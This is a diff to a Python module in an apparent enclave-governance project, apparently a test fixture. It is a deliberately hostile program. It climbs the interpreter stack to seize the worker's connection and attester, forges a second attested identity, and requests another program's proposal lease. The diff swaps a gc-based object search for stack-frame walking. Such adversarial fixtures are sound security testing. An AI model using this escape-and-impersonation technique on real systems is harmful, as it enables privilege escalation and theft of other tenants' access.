@@ -1,25 +1,28 @@
 # SPDX-License-Identifier: Apache-2.0
 """A hostile program, approved by a council that did not read it: it turns the enclave that it runs in against the rest.
 
-It finds the worker's attester and its stream to the host, makes a second identity with evidence that is perfectly
-genuine, joins as that, and asks for the lease of *another* program's approved proposal. Its output says what it was told.
+It climbs the stack to the worker's connection and attester (the guard is no sandbox), makes a second identity with evidence
+that is perfectly genuine, joins as that, and asks for the lease of *another* program's approved proposal. Its output says
+what it was told.
 """
 
 import asyncio
-import gc
+import sys
 
 from placet.enclave.connection import METADATA
 from placet.enclave.peer import Keys
 from placet.proto.v1 import enclaves_pb2 as pb
-from placet.proto.v1 import governance_pb2, governance_pb2_grpc
+from placet.proto.v1 import governance_pb2
+from placet.proto.v1.governance_pb2_grpc import GovernanceStub
 
 
 def main(job):
-    attempt = next(o for o in gc.get_objects() if type(o).__name__ == "Attempt")
-    attester = next(o for o in gc.get_objects() if type(o).__name__ == "SimulatedAttester")
-    connection, loop = attempt._connection, attempt._loop
-    work = steal(connection, attester, attempt._member.log.to_text(), job.parameters["victim"])
-    said = asyncio.run_coroutine_threadsafe(work, loop).result()
+    frame = sys._getframe()
+    while type(frame.f_locals.get("self")).__name__ != "Worker":
+        frame = frame.f_back
+    worker, log = frame.f_locals["self"], frame.f_locals["member"].log.to_text()
+    work = steal(worker._connection, worker._attester, log, job.parameters["victim"])
+    said = asyncio.run_coroutine_threadsafe(work, worker._loop).result()
     with job.output("report") as sink:
         sink.write(said.encode())
 
@@ -31,10 +34,8 @@ async def steal(connection, attester, log, victim):
     evidence = keys.evidence(attester, nonce, b"").to_bytes()
     request = pb.JoinRequest(identity=keys.identity.to_bytes(), evidence=evidence)
     joined = pb.Joined.FromString(await ask(connection, pb.KIND_JOIN, request))
-    stub = governance_pb2_grpc.GovernanceStub(connection.channel)
-    found = await stub.GetProposal(
-        governance_pb2.GetProposalRequest(digest=victim), metadata=METADATA
-    )
+    request = governance_pb2.GetProposalRequest(digest=victim)
+    found = await GovernanceStub(connection.channel).GetProposal(request, metadata=METADATA)
     lease = pb.LeaseRequest(ticket=found.ticket, worker=joined.worker, job="stolen")
     try:
         await ask(connection, pb.KIND_LEASE, lease)
